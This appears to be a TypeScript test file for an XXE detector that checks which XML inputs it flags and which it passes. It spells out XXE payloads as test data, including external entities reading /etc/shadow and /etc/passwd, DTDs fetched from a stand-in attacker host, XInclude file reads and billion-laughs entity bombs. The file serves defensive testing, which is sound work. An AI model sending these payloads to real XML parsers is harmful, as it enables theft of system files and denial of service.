/** XXE verdicts on documents written here (the corpus's own 18 are in payload-corpus.test.ts). */
import { describe, expect, it } from 'vitest';
import { xxeVerdict } from '#sidecar/threats/text/xxe-verdict.ts';

const laughs = (levels: number, fanOut: number): string => {
  const decls = [`<!ENTITY a0 "ha">`];
  for (let i = 1; i <= levels; i++) decls.push(`<!ENTITY a${i} "${`&a${i - 1};`.repeat(fanOut)}">`);
  return `<?xml version="1.0"?><!DOCTYPE d [${decls.join('')}]><d>&a${levels};</d>`;
};

describe('xxeVerdict', () => {
  it.each([
    [
      'SYSTEM, double quotes',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/shadow">]><x>&e;</x>',
      'external entity &e',
    ],
    [
      'SYSTEM, single quotes, newlines',
      "<!DOCTYPE x [\n<!ENTITY\te\n SYSTEM\n'expect://id'>\n]><x>&e;</x>",
      'expect://id',
    ],
    [
      'PUBLIC with a URI',
      '<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B" "http://attacker.test/e">]><x>&e;</x>',
      'http://attacker.test/e',
    ],
    [
      'a parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]><x/>',
      'external entity %p',
    ],
    [
      'an external DTD',
      '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.test/x.dtd"><x/>',
      'external DTD http://attacker.test/x.dtd',
    ],
    [
      'an external DTD by a non-W3C public id',
      '<!DOCTYPE x PUBLIC "-//Evil//DTD//EN" "gopher://attacker.test/">',
      'gopher://attacker.test/',
    ],
    [
      'XInclude with another prefix',
      '<r xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="/etc/passwd" parse="text"/></r>',
      'XInclude of /etc/passwd',
    ],
    [
      'an inline entity probe',
      '<!DOCTYPE r [<!ENTITY probe "meshward">]><r>&probe;</r>',
      'probe for entity processing',
    ],
    ['a recursive entity', '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>', 'recursive entity'],
    [
      'UTF-16LE markup (NUL after every ASCII character)',
      Buffer.from('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 'utf16le').toString('latin1'),
      'external entity &e',
    ],
    ['a UTF-7 declaration', '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-', 'UTF-7'],
  ])('flags %s', (_name, text, reason) => {
    expect(xxeVerdict(text)).toContain(reason);
  });

  it('measures a billion laughs without expanding it, and names the largest entity', () => {
    expect(xxeVerdict(laughs(9, 10))).toBe('entity expansion bomb: &a9; expands to 2,000,000,000 characters');
  });

  it('flags a quadratic blow-up: one large entity referenced many times by the document', () => {
    const big = 'x'.repeat(20_000);
    const text = `<!DOCTYPE r [<!ENTITY big "${big}">]><r>${'&big;'.repeat(50)}</r>`;
    expect(xxeVerdict(text)).toMatch(/document's entity references expand to 1,000,\d{3} characters/);
  });

  it('reads character references in entity values as declared (the nested parameter-entity trick)', () => {
    const text =
      '<!DOCTYPE r [<!ENTITY % a "xxxxxxxxxx"><!ENTITY % b "&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;&#37;a;">]><r/>';
    // 12 × 10 characters: small, so only the declaration itself is reported.
    expect(xxeVerdict(text)).toContain('probe for entity processing');
    expect(xxeVerdict(laughs(6, 10))).toContain('expands to 2,000,000');
  });

  it.each([
    ['an HTML5 doctype', '<!DOCTYPE html><html><body>hi</body></html>'],
    [
      'an XHTML doctype',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    ],
    [
      'an SVG doctype',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    ],
    ['an HTML 4 public id alone', '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">'],
    [
      'a SOAP envelope',
      '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x">1</m:Get></soap:Body></soap:Envelope>',
    ],
    ['an escaped declaration (text about XML)', 'use &lt;!ENTITY e SYSTEM "file:///x"&gt; to include a file'],
    ['prose', 'the ENTITY keyword and SYSTEM literals are explained in chapter 4'],
    ['an include element outside XInclude', '<include href="header.html"/>'],
    ['a comparison', 'a < b && c > d'],
  ])('does not flag %s', (_name, text) => {
    expect(xxeVerdict(text)).toBeUndefined();
  });

  it('reads no declaration whose literal never closes, as a parser would not (and in one pass)', () => {
    const unclosed = `<!ENTITY a "${'<!ENTITY b x'.repeat(5_000)}`;
    expect(xxeVerdict(unclosed)).toBeUndefined();
    // The open literal swallows the rest: a parser never reaches a later declaration either.
    expect(xxeVerdict(`${unclosed}<!ENTITY e SYSTEM 'file:///x'>`)).toBeUndefined();
    expect(xxeVerdict(`<!ENTITY a "closed">${'<!ENTITY b x'.repeat(5_000)}`)).toContain('&a;');
  });

  it('stays bounded on many unclosed XInclude tags', () => {
    const hostile = `<r xmlns:xi="http://www.w3.org/2001/XInclude">${'<xi:include a="1" '.repeat(3_500)}`;
    expect(xxeVerdict(hostile)).toBeUndefined();
    expect(xxeVerdict(`${hostile}<xi:include href="file:///etc/passwd"/>`)).toBe(
      'XInclude of file:///etc/passwd',
    );
  });
});

describe('xxeVerdict: every declaration within what it reads (ADR 36)', () => {
  const harmless = (count: number) => Array.from({ length: count }, (_, i) => `<!ENTITY a${i} "x">`).join('');

  it('reads an external entity after 64 harmless declarations, and after 10,000', () => {
    for (const count of [64, 10_000]) {
      const doc = `<!DOCTYPE r [${harmless(count)}<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`;
      expect(xxeVerdict(doc)).toBe('external entity &x → file:///etc/passwd');
    }
  });

  it('reads 200 internal entities as the probe they always were, neither a fetch nor a bomb', () => {
    const doc = `<!DOCTYPE r [${harmless(200)}]><r>${Array.from({ length: 200 }, (_, i) => `&a${i};`).join('')}</r>`;
    expect(xxeVerdict(doc)).toBe('entity declaration &a0; in a request (probe for entity processing)');
  });

  it('tells a chain of 10,000 nested entities, declared last first, without running out of stack', () => {
    const chain = Array.from({ length: 10_000 }, (_, i) => `<!ENTITY a${10_000 - i} "&a${9_999 - i};">`);
    const doc = `<!DOCTYPE d [${chain.join('')}<!ENTITY a0 "x">]><d>&a10000;</d>`;
    expect(doc.length).toBeLessThan(256 * 1024);
    expect(xxeVerdict(doc)).toBe('entity nesting deeper than 64: &a10000;');
  });

  it('reports a DTD that does not end within the 256 KiB it reads', () => {
    const doc = `<!DOCTYPE r [<!-- ${'x'.repeat(300_000)} --><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`;
    expect(xxeVerdict(doc)).toBe('DTD longer than 256 KiB (not read to its end)');
    expect(xxeVerdict(`<r>${'<p>long text</p>'.repeat(20_000)}</r>`)).toBeUndefined();
  });
});
